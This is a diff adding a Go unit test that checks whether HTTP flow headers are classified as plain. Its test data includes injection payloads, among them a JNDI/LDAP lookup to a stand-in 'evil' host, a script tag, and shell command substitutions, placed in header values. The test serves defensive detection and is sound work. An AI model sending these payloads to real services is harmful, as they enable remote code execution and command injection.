@@ -1,6 +1,7 @@
 package facts
 
 import (
+	"slices"
 	"testing"
 
 	flowpb "github.com/cilium/cilium/api/v1/flow"
@@ -101,6 +102,39 @@ func TestHTTPPlain(t *testing.T) {
 	} {
 		h := parseHTTP(&flowpb.HTTP{Method: "GET", Url: tc.url})
 		require.Equal(t, tc.plain, h.Plain, tc.url)
+	}
+}
+
+// TestHTTPHeadersPlain: ordinary header values are plain; a value with an
+// expression, lookup or markup character is not, in any header and in the
+// last header kept within the bounds.
+func TestHTTPHeadersPlain(t *testing.T) {
+	browser := []*flowpb.HTTPHeader{
+		{Key: "User-Agent", Value: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"},
+		{Key: "Accept", Value: "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
+		{Key: "Cookie", Value: "session=abc123; theme=dark%20mode"},
+		{Key: "If-None-Match", Value: `W/"5e1-1a2b"`},
+		{Key: "Authorization", Value: "Bearer eyJhbGciOiJIUzI1NiJ9.e30.x-y_z"},
+	}
+	for _, tc := range []struct {
+		name    string
+		headers []*flowpb.HTTPHeader
+		plain   bool
+	}{
+		{"none", nil, true},
+		{"browser", browser, true},
+		{"jndi", append(slices.Clone(browser), &flowpb.HTTPHeader{Key: "X-Api-Version", Value: "${jndi:ldap://evil/a}"}), false},
+		{"script", []*flowpb.HTTPHeader{{Key: "Referer", Value: "<script>alert(1)</script>"}}, false},
+		{"pipe", []*flowpb.HTTPHeader{{Key: "X-Forwarded-For", Value: "1.2.3.4 | id"}}, false},
+		{"backslash", []*flowpb.HTTPHeader{{Key: "X-Path", Value: `..\windows`}}, false},
+		{"backtick", []*flowpb.HTTPHeader{{Key: "User-Agent", Value: "`id`"}}, false},
+		{"only_the_bounded_headers", append(slices.Repeat([]*flowpb.HTTPHeader{{Key: "X", Value: "1"}}, MaxHeaders),
+			&flowpb.HTTPHeader{Key: "X-Late", Value: "${jndi:x}"}), true},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			h := parseHTTP(&flowpb.HTTP{Method: "GET", Url: "/", Headers: tc.headers})
+			require.Equal(t, tc.plain, h.HeadersPlain)
+		})
 	}
 }
 
